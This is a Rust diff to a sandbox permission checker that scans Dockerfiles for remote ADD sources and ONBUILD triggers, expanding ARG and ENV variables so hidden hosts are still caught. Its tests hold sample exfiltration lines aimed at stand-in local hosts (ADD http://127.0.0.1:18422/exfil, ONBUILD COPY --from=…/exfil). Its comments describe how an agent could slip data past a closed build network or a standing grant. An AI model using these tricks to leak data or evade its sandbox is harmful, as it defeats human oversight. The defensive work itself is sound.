@@ -14,6 +14,7 @@
 //! heredoc's end word is an identifier, so it never continues onto the next instruction).
 //! Pure but for [`read_dockerfile`].
 
+use std::collections::{BTreeMap, BTreeSet};
 use std::path::Path;
 
 use super::host_path::resolve;
@@ -63,14 +64,16 @@ impl Built<'_> {
     }
 }
 
-/// Every request the text of `built`'s Dockerfile makes ([`run_step_requests`], a cache
-/// mount, the frontend: [`frontend`] of `syntax_arg`, the build's `BUILDKIT_SYNTAX`
-/// argument), each named by `built`. Pure.
+/// Every request the text of `built`'s Dockerfile makes with the build's arguments `args`
+/// ([`run_step_requests`], a cache mount, the frontend: [`frontend`] of the build's
+/// `BUILDKIT_SYNTAX` argument, its own `ONBUILD` triggers: [`onbuild_triggers`], the remote
+/// `ADD` sources: [`remote_sources`]), each named by `built`. Pure.
 pub fn text_requests(
     built: Built<'_>,
     text: &str,
-    syntax_arg: Option<&str>,
+    args: &BTreeMap<String, String>,
 ) -> Vec<(Permission, Source)> {
+    let syntax_arg = args.get("BUILDKIT_SYNTAX").map(String::as_str);
     let mut asked: Vec<(Permission, Source)> = run_step_requests(text)
         .into_iter()
         .map(|(permission, what)| (permission, built.source(&what)))
@@ -87,7 +90,10 @@ pub fn text_requests(
             built.source(&format!("# syntax={name}")),
         ));
     }
-    for (host, what) in remote_sources(text) {
+    if let Some(what) = onbuild_triggers(text) {
+        asked.push((built.option("build_onbuild", None), built.source(&what)));
+    }
+    for (host, what) in remote_sources(text, args) {
         asked.push((
             built.option("build_fetch", Some(&host)),
             built.source(&what),
@@ -96,43 +102,269 @@ pub fn text_requests(
     asked
 }
 
+/// The `ONBUILD` instructions of a Dockerfile, joined with ` | ` as read; `None` without any.
+/// The image a Dockerfile builds carries them as triggers, and devcell builds its own layers
+/// (Features, uid) `FROM` that image, so they run there, where the Dockerfile's own judgement
+/// does not look: an `ONBUILD COPY --from=<image>` pulls an image of the agent's choosing
+/// (attack 23, N16), an `ONBUILD RUN --mount=type=cache` shares a cache. Any trigger is the
+/// `build_onbuild` request of the build ([`Built::option`]), as a base image's triggers are
+/// ([`onbuild_request`]). Pure.
+pub fn onbuild_triggers(text: &str) -> Option<String> {
+    let mut triggers: Vec<String> = Vec::new();
+    for (instruction, escape) in read_instructions(text) {
+        let mut words = Words::new(&instruction, escape);
+        if words
+            .next()
+            .is_some_and(|k| k.eq_ignore_ascii_case("onbuild"))
+            && !triggers.contains(&instruction)
+        {
+            triggers.push(instruction);
+        }
+    }
+    (!triggers.is_empty()).then(|| triggers.join(" | "))
+}
+
 /// The remote sources of a Dockerfile's `ADD` instructions (and `ONBUILD ADD`), as `(host,
 /// instruction as read)`: a URL (`http://`, `https://`, `git://`, `ssh://`, any `scheme://`)
 /// or an scp-like git address (`git@host:path`) is fetched by the builder itself, on the
 /// host's network whatever the build's network is, so under a closed build network (spec-note
-/// 0442) it carries whatever the agent wrote into its path out (attack L6). A source starting
-/// with a variable (`$SRC`) may become one: its host is the variable as written. Pure.
-pub fn remote_sources(text: &str) -> Vec<(String, String)> {
+/// 0442) it carries whatever the agent wrote into its path out (attack L6). Each source is
+/// read with its variables expanded as the builder expands them ([`Variables`]: the build's
+/// `args` over the `ARG` defaults, scoped by stage, `ENV` over `ARG`; attack 23, N20), so the
+/// host asked is the one fetched from, and a grant of it pins that host. A source still
+/// holding a `$` (a variable only the builder knows: the base image's `ENV`, an automatic
+/// argument, an `ONBUILD` trigger's later build) is judged wide ([`remote_host`]); its
+/// request holds the `$`, which no standing grant may name
+/// ([`crate::security::choice`]): it is granted for one run only. Pure.
+pub fn remote_sources(text: &str, args: &BTreeMap<String, String>) -> Vec<(String, String)> {
     let mut found: Vec<(String, String)> = Vec::new();
-    for (instruction, escape) in read_instructions(text) {
-        let mut words = Words::new(&instruction, escape);
-        let Some(mut keyword) = words.next().map(|k| k.to_ascii_lowercase()) else {
-            continue;
-        };
-        if keyword == "onbuild" {
-            keyword = words.next().unwrap_or_default().to_ascii_lowercase();
-        }
-        if keyword != "add" {
-            continue;
-        }
-        while words.peek_flag().is_some() {}
-        let rest = words.rest.trim();
-        let mut sources: Vec<String> = if rest.starts_with('[') {
-            serde_json::from_str::<Vec<String>>(rest).unwrap_or_else(|_| words.collect())
-        } else {
-            words.collect()
-        };
-        sources.pop(); // the destination
-        for source in sources {
-            if let Some(host) = remote_host(&source) {
-                let what = format!("ADD {source}");
-                if !found.iter().any(|(h, w)| *h == host && *w == what) {
-                    found.push((host, what));
+    let (body, escapes) = read(text);
+    for escape in escapes {
+        let mut variables = Variables::new(args);
+        for instruction in dockerfile_instructions(body, escape) {
+            let mut words = Words::new(&instruction, escape);
+            let Some(mut keyword) = words.next().map(|k| k.to_ascii_lowercase()) else {
+                continue;
+            };
+            // a trigger runs in a later build, whose variables are not this file's
+            let onbuild = keyword == "onbuild";
+            if onbuild {
+                keyword = words.next().unwrap_or_default().to_ascii_lowercase();
+            }
+            match keyword.as_str() {
+                "from" if !onbuild => variables.enter_stage(),
+                "arg" if !onbuild => variables.arg(words),
+                "env" if !onbuild => variables.env(words),
+                "add" => {
+                    let empty = BTreeMap::new();
+                    let values = if onbuild { &empty } else { variables.values() };
+                    for (host, what) in add_sources(&mut words, values) {
+                        if !found.iter().any(|(h, w)| *h == host && *w == what) {
+                            found.push((host, what));
+                        }
+                    }
                 }
+                _ => {}
             }
         }
     }
     found
+}
+
+/// The remote sources of the rest of an `ADD` instruction (`words`, after the keyword), as
+/// [`remote_sources`] gives them, each expanded with `values`.
+fn add_sources(words: &mut Words<'_>, values: &BTreeMap<String, String>) -> Vec<(String, String)> {
+    while words.peek_flag().is_some() {}
+    let rest = words.rest.trim();
+    let mut sources: Vec<String> = if rest.starts_with('[') {
+        serde_json::from_str::<Vec<String>>(rest).unwrap_or_else(|_| words.collect())
+    } else {
+        words.collect()
+    };
+    sources.pop(); // the destination
+    let mut found = Vec::new();
+    for source in sources {
+        let expanded = expand(&source, values);
+        if let Some(host) = remote_host(&expanded) {
+            let what = if expanded == source {
+                format!("ADD {source}")
+            } else {
+                format!("ADD {source} (as the build expands it: {expanded})")
+            };
+            found.push((host, what));
+        }
+    }
+    found
+}
+
+/// `word` with the variables of `values` expanded as the builders expand them: `$NAME`,
+/// `${NAME}`, `${NAME:-word}` (`word` when the value is empty) and `${NAME:+word}` (`word`
+/// when it is not; empty otherwise), `word` itself expanded. A variable `values` does not hold
+/// (one only the builder knows, an automatic platform argument) or a form other than these is
+/// left as written, so its `$` stays: the caller's sign that the builder decides the value
+/// (attack 23, N20).
+pub(super) fn expand(word: &str, values: &BTreeMap<String, String>) -> String {
+    let mut out = String::with_capacity(word.len());
+    let mut rest = word;
+    while let Some(at) = rest.find('$') {
+        out.push_str(&rest[..at]);
+        let after = &rest[at + 1..];
+        match expand_one(after, values) {
+            Some((value, used)) => {
+                out.push_str(&value);
+                rest = &after[used..];
+            }
+            None => {
+                out.push('$');
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// The value of the variable reference that `after` (the text after a `$`) starts with, and
+/// how many bytes of `after` it spans ([`expand`]); `None` when `values` does not hold the
+/// variable or the form is not one [`expand`] reads.
+fn expand_one(after: &str, values: &BTreeMap<String, String>) -> Option<(String, usize)> {
+    let name_len = |s: &str| {
+        s.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+            .unwrap_or(s.len())
+    };
+    let Some(body) = after.strip_prefix('{') else {
+        let len = name_len(after);
+        if len == 0 {
+            return None;
+        }
+        return Some((values.get(&after[..len])?.clone(), len));
+    };
+    // the `}` closing this reference, past any nested `${…}` in its word
+    let mut depth = 0usize;
+    let close = body.char_indices().find_map(|(i, c)| match c {
+        '{' => {
+            depth += 1;
+            None
+        }
+        '}' if depth == 0 => Some(i),
+        '}' => {
+            depth -= 1;
+            None
+        }
+        _ => None,
+    })?;
+    let inner = &body[..close];
+    let (name, form) = inner.split_at(name_len(inner));
+    let value = values.get(name)?;
+    let expanded = if form.is_empty() {
+        value.clone()
+    } else if let Some(word) = form.strip_prefix(":-") {
+        if value.is_empty() {
+            expand(word, values)
+        } else {
+            value.clone()
+        }
+    } else if let Some(word) = form.strip_prefix(":+") {
+        if value.is_empty() {
+            String::new()
+        } else {
+            expand(word, values)
+        }
+    } else {
+        return None;
+    };
+    Some((expanded, close + 2))
+}
+
+/// The variables a Dockerfile's instructions are expanded with, scoped as the builders scope
+/// them: before the first `FROM`, the build's arguments over the `ARG` defaults; in a stage,
+/// only what the stage declares (`ARG NAME` brings in the build argument, else the default
+/// declared before the first `FROM`; `ENV` overrides `ARG`). A variable the stage inherits
+/// from its base (its `ENV`) is not known here: it stays unexpanded.
+struct Variables<'a> {
+    args: &'a BTreeMap<String, String>,
+    global: BTreeMap<String, String>,
+    stage: Option<BTreeMap<String, String>>,
+    /// The names the current stage set with `ENV`.
+    env: BTreeSet<String>,
+}
+
+impl<'a> Variables<'a> {
+    fn new(args: &'a BTreeMap<String, String>) -> Self {
+        Variables {
+            args,
+            global: BTreeMap::new(),
+            stage: None,
+            env: BTreeSet::new(),
+        }
+    }
+
+    /// The values the current instruction is expanded with.
+    fn values(&self) -> &BTreeMap<String, String> {
+        self.stage.as_ref().unwrap_or(&self.global)
+    }
+
+    /// A `FROM`: a new stage, with nothing declared.
+    fn enter_stage(&mut self) {
+        self.stage = Some(BTreeMap::new());
+        self.env.clear();
+    }
+
+    /// An `ARG` instruction's words (`NAME`, `NAME=default`).
+    fn arg(&mut self, words: Words<'_>) {
+        for word in words {
+            let (name, default) = match word.split_once('=') {
+                Some((n, d)) => (n.to_string(), Some(d.to_string())),
+                None => (word.clone(), None),
+            };
+            let value = match (self.args.get(&name), &default, &self.stage) {
+                (Some(arg), _, _) => arg.clone(),
+                (None, Some(d), _) => expand(d, self.values()),
+                (None, None, Some(_)) => match self.global.get(&name) {
+                    Some(global) => global.clone(),
+                    None => continue,
+                },
+                // neither an argument nor a default: unknown, its `$` left as written
+                (None, None, None) => continue,
+            };
+            match &mut self.stage {
+                // an `ENV` of the same name wins over a later `ARG`
+                Some(_) if self.env.contains(&name) => {}
+                Some(stage) => {
+                    stage.insert(name, value);
+                }
+                None => {
+                    self.global.insert(name, value);
+                }
+            }
+        }
+    }
+
+    /// An `ENV` instruction's words (`NAME=value …`, or the old `NAME value`).
+    fn env(&mut self, mut words: Words<'_>) {
+        let Some(stage) = self.stage.as_mut() else {
+            return;
+        };
+        let Some(first) = words.next() else {
+            return;
+        };
+        let mut pairs: Vec<(String, String)> = Vec::new();
+        match first.split_once('=') {
+            Some((n, v)) => {
+                pairs.push((n.to_string(), v.to_string()));
+                pairs.extend(words.filter_map(|w| {
+                    w.split_once('=')
+                        .map(|(n, v)| (n.to_string(), v.to_string()))
+                }));
+            }
+            None => pairs.push((first, words.collect::<Vec<_>>().join(" "))),
+        }
+        for (name, value) in pairs {
+            let value = expand(&value, stage);
+            stage.insert(name.clone(), value);
+            self.env.insert(name);
+        }
+    }
 }
 
 /// The host a remote `ADD` source names (see [`remote_sources`]), lowercased, with its port;
@@ -582,10 +814,11 @@ mod tests {
         }
         // both builds name it the same way, each by its own source
         let text = "# syntax=evil/frontend:1\nFROM a\nRUN --network=host --mount=type=cache,target=/c true\n";
-        let compose: Vec<String> = text_requests(Built::ComposeService("app"), text, None)
-            .into_iter()
-            .map(|(p, s)| format!("{} <- {s}", p.grant_flag().unwrap()))
-            .collect();
+        let compose: Vec<String> =
+            text_requests(Built::ComposeService("app"), text, &BTreeMap::new())
+                .into_iter()
+                .map(|(p, s)| format!("{} <- {s}", p.grant_flag().unwrap()))
+                .collect();
         assert_eq!(
             compose,
             [
@@ -597,7 +830,10 @@ mod tests {
         let own: Vec<String> = text_requests(
             Built::Dockerfile(".devcontainer/Dockerfile"),
             text,
-            Some("other/frontend:2"),
+            &BTreeMap::from([(
+                "BUILDKIT_SYNTAX".to_string(),
+                "other/frontend:2".to_string(),
+            )]),
         )
         .into_iter()
         .map(|(p, s)| format!("{} <- {s}", p.grant_flag().unwrap()))
@@ -649,7 +885,10 @@ mod tests {
             ADD $SRC/file /v\n\
             ADD local.tar ./dir/ /l\n\
             ADD c:/windows-looking /w\n";
-        let hosts: Vec<String> = remote_sources(text).into_iter().map(|(h, _)| h).collect();
+        let hosts: Vec<String> = remote_sources(text, &BTreeMap::new())
+            .into_iter()
+            .map(|(h, _)| h)
+            .collect();
         assert_eq!(
             hosts,
             [
@@ -661,13 +900,15 @@ mod tests {
                 "$SRC",
             ]
         );
-        let asked = text_requests(Built::Dockerfile("Dockerfile"), text, None);
+        let asked = text_requests(Built::Dockerfile("Dockerfile"), text, &BTreeMap::new());
         assert!(
             asked.iter().any(|(p, _)| *p
                 == Permission::RuntimeOption("build_fetch=127.0.0.1:18996".into())),
             "{asked:?}"
         );
-        assert!(remote_sources("FROM x\nADD a b /c\nCOPY http://x/y /z\n").is_empty());
+        assert!(
+            remote_sources("FROM x\nADD a b /c\nCOPY http://x/y /z\n", &BTreeMap::new()).is_empty()
+        );
     }
 
     /// Attack M3: a UTF-8 byte-order mark before `# escape=` (which the builders drop, so
@@ -677,7 +918,10 @@ mod tests {
     #[test]
     fn a_bom_or_a_variable_in_the_scheme_hides_no_request() {
         let bom = "\u{feff}# escape=`\nFROM busybox\nADD `\n  http://127.0.0.1:18422/exfil /x\n";
-        let hosts: Vec<String> = remote_sources(bom).into_iter().map(|(h, _)| h).collect();
+        let hosts: Vec<String> = remote_sources(bom, &BTreeMap::new())
+            .into_iter()
+            .map(|(h, _)| h)
+            .collect();
         assert_eq!(hosts, ["127.0.0.1:18422"]);
         let run = "\u{feff}# escape=`\nFROM a\nRUN `\n --network=host true\n";
         assert_eq!(asked(run), ["--allow network:host <- RUN --network=host"]);
@@ -686,30 +930,39 @@ mod tests {
         // (a base image behind the BOM: `build_stages::tests::a_bom_before_the_escape_directive_hides_no_base`)
         // an unknown directive ends the directives: the escape line after it is a comment
         let unknown = "# foo=bar\n# escape=`\nFROM a\nADD \\\n  http://127.0.0.1:18422/x /x\n";
-        let hosts: Vec<String> = remote_sources(unknown)
+        let hosts: Vec<String> = remote_sources(unknown, &BTreeMap::new())
             .into_iter()
             .map(|(h, _)| h)
             .collect();
         assert_eq!(hosts, ["127.0.0.1:18422"]);
         // a BOM before the first instruction itself
-        assert_eq!(remote_sources("\u{feff}ADD http://h.test/x /x\n").len(), 1);
+        assert_eq!(
+            remote_sources("\u{feff}ADD http://h.test/x /x\n", &BTreeMap::new()).len(),
+            1
+        );
         for (source, host) in [
             ("h${E}ttp://127.0.0.1:18422/exfil3", "127.0.0.1:18422"),
             ("http$E://h.test/a", "h.test"),
             ("${SCHEME}h.test/a", "${SCHEME}h.test"),
             ("./$X", "./$X"),
-            ("git${E}@git.test:org/r.git", "git${E}@git.test:org"),
+            ("git${E}@git.test:org/r.git", "git.test"),
             ("HTTP://Upper.test/a", "upper.test"),
             ("user@git.test:org/r.git", "git.test"),
             ("github.com/org/repo.git", "github.com"),
         ] {
             let text = format!("FROM a\nARG E=\nADD {source} /x\n");
-            let hosts: Vec<String> = remote_sources(&text).into_iter().map(|(h, _)| h).collect();
+            let hosts: Vec<String> = remote_sources(&text, &BTreeMap::new())
+                .into_iter()
+                .map(|(h, _)| h)
+                .collect();
             assert_eq!(hosts, [host], "{source}");
         }
         for local in ["a.tar", "c:/windows-looking", "dir/file@2x.png", "./x:y"] {
             let text = format!("FROM a\nADD {local} /x\n");
-            assert!(remote_sources(&text).is_empty(), "{local}");
+            assert!(
+                remote_sources(&text, &BTreeMap::new()).is_empty(),
+                "{local}"
+            );
         }
     }
 
@@ -721,7 +974,10 @@ mod tests {
     #[test]
     fn an_escape_directive_anywhere_in_the_opening_comments_is_read_both_ways() {
         let hosts = |text: &str| -> Vec<String> {
-            remote_sources(text).into_iter().map(|(h, _)| h).collect()
+            remote_sources(text, &BTreeMap::new())
+                .into_iter()
+                .map(|(h, _)| h)
+                .collect()
         };
         let check =
             "# check=skip=all\n# escape=`\nFROM a\nADD \\\n  http://127.0.0.1:18423/df-check /x\n";
@@ -749,7 +1005,10 @@ mod tests {
         for blank in ["\u{a0}", "\u{2000}", "\u{3000}", "\u{85}", "\x0b", "\x0c"] {
             let text =
                 format!("FROM a\nRUN true \\{blank}\nADD http://127.0.0.1:18423/df-nbsp /x\n");
-            let hosts: Vec<String> = remote_sources(&text).into_iter().map(|(h, _)| h).collect();
+            let hosts: Vec<String> = remote_sources(&text, &BTreeMap::new())
+                .into_iter()
+                .map(|(h, _)| h)
+                .collect();
             assert_eq!(hosts, ["127.0.0.1:18423"], "{blank:?}");
             let run = format!("FROM a\nRUN true \\{blank}\nRUN --network=host true\n");
             assert_eq!(
@@ -765,5 +1024,97 @@ mod tests {
         );
         assert_eq!(continued("RUN x \\\u{a0}", '\\'), None);
         assert_eq!(continued("RUN x \\ \t", '\\'), Some("RUN x "));
+    }
+
+    /// Attack 23, N20: `ADD ${SRC}` was asked as `build_fetch=${SRC}`, so a standing grant of
+    /// it let any later `ARG SRC=<URL>` the agent wrote be fetched. A source is asked by the
+    /// host it expands to, as the builder scopes and expands its variables; one still holding
+    /// a `$` keeps it in its request (a one-run grant: `choice`).
+    #[test]
+    fn an_add_source_is_asked_by_the_host_it_expands_to() {
+        let hosts = |text: &str, args: &[(&str, &str)]| -> Vec<String> {
+            let args = args
+                .iter()
+                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .collect();
+            remote_sources(text, &args)
+                .into_iter()
+                .map(|(h, _)| h)
+                .collect()
+        };
+        let text = "FROM a\nARG SRC=http://127.0.0.1:18423/x\nADD ${SRC} /x\n";
+        assert_eq!(hosts(text, &[]), ["127.0.0.1:18423"]);
+        let asked = text_requests(Built::Dockerfile("Dockerfile"), text, &BTreeMap::new());
+        assert_eq!(
+            asked[0].0,
+            Permission::RuntimeOption("build_fetch=127.0.0.1:18423".into())
+        );
+        // the build's argument wins over the default
+        assert_eq!(
+            hosts(text, &[("SRC", "https://other.test/y")]),
+            ["other.test"]
+        );
+        // a default declared before the first `FROM` reaches a stage through `ARG NAME`
+        let global = "ARG SRC=http://global.test/x\nFROM a\nARG SRC\nADD $SRC /x\n";
+        assert_eq!(hosts(global, &[]), ["global.test"]);
+        // a stage's own default wins over the global one, a later one over an earlier one
+        let redefined = "ARG SRC=http://granted.test/x\nFROM a\nARG SRC=http://first.test/\n\
+            ARG SRC=http://evil.test/x\nADD $SRC /x\n";
+        assert_eq!(hosts(redefined, &[]), ["evil.test"]);
+        // `ENV` wins over `ARG`, even over the build's argument
+        let env = "FROM a\nENV SRC=http://env.test/x\nARG SRC=http://arg.test/y\nADD ${SRC} /x\n";
+        assert_eq!(hosts(env, &[("SRC", "http://arg2.test/")]), ["env.test"]);
+        let old_env = "FROM a\nENV SRC http://old.test/x\nADD ${SRC} /x\n";
+        assert_eq!(hosts(old_env, &[]), ["old.test"]);
+        // `${NAME:-word}` and `${NAME:+word}`
+        let forms = "FROM a\nARG H=\nARG P=x\nADD http://${H:-dflt.test}/a /a\n\
+            ADD http://${P:+alt.test}/b /b\n";
+        assert_eq!(hosts(forms, &[]), ["dflt.test", "alt.test"]);
+        // each stage starts anew: the first stage's default is not the second's
+        let stages = "FROM a\nARG SRC=http://one.test/\nFROM b\nADD $SRC /x\n";
+        assert_eq!(hosts(stages, &[]), ["$SRC"]);
+        // a variable only the builder knows (the base image's `ENV`): the `$` stays
+        assert_eq!(
+            hosts("FROM a\nADD ${BASE_ENV}/x /x\n", &[]),
+            ["${BASE_ENV}"]
+        );
+        // an `ONBUILD ADD` runs in a later build with its own variables
+        let onbuild = "FROM a\nARG SRC=http://now.test/\nONBUILD ADD $SRC /x\n";
+        assert_eq!(hosts(onbuild, &[]), ["$SRC"]);
+        // the request shows what the build expands the source to
+        let (_, what) = &remote_sources(text, &BTreeMap::new())[0];
+        assert!(what.contains("http://127.0.0.1:18423/x"), "{what}");
+    }
+
+    /// Attack 23, N16: an `ONBUILD` in the workspace Dockerfile runs in devcell's own next
+    /// build `FROM` the result (its uid layer), where the Dockerfile's judgement did not look:
+    /// any trigger is the build's `build_onbuild` request, its source showing the triggers.
+    #[test]
+    fn a_trigger_in_the_dockerfile_is_an_onbuild_request() {
+        let text =
+            "FROM a\nONBUILD COPY --from=127.0.0.1:18424/exfil/ob:s / /x\nonbuild RUN true\n";
+        let asked = text_requests(Built::Dockerfile("Dockerfile"), text, &BTreeMap::new());
+        let (permission, source) = asked
+            .iter()
+            .find(|(p, _)| *p == Permission::RuntimeOption("build_onbuild=dockerfile".into()))
+            .unwrap_or_else(|| panic!("{asked:?}"));
+        assert_eq!(
+            permission.grant_flag().unwrap(),
+            "--allow runtime-option:build_onbuild=dockerfile"
+        );
+        let shown = source.to_string();
+        assert!(
+            shown.contains("ONBUILD COPY --from=127.0.0.1:18424/exfil/ob:s"),
+            "{shown}"
+        );
+        assert!(shown.contains("onbuild RUN true"), "{shown}");
+        assert_eq!(onbuild_triggers("FROM a\nRUN echo ONBUILD\n"), None);
+        let compose = text_requests(Built::ComposeService("app"), text, &BTreeMap::new());
+        assert!(
+            compose
+                .iter()
+                .any(|(p, _)| *p == Permission::RuntimeOption("build_onbuild=app".into())),
+            "{compose:?}"
+        );
     }
 }
